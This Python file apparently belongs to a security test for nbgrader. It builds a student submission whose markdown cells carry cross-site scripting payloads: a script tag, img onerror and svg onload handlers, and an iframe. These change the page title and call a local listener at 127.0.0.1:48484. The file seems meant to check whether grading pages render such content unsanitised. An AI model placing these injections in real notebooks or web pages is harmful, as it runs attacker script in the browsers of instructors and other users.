"""Markdown cells with scripts, handlers and frames, added and in place of the course's. nbgrader's pages render
them as they are."""

DESERVES = "full"


PAYLOAD = """
<script>document.title = 'pwned'; fetch('http://127.0.0.1:48484/script')</script>
<img src="http://127.0.0.1:48484/image" onerror="document.title = 'pwned'">
<svg onload="document.title = 'pwned'"></svg>
<iframe src="http://127.0.0.1:48484/frame"></iframe>
"""


def submission(solved, blank):
    for place in (5, 1):
        solved["cells"].insert(
            place, {"cell_type": "markdown", "id": f"mine-{place}", "metadata": {}, "source": PAYLOAD}
        )
    solved["cells"][0]["source"] = PAYLOAD
    return solved
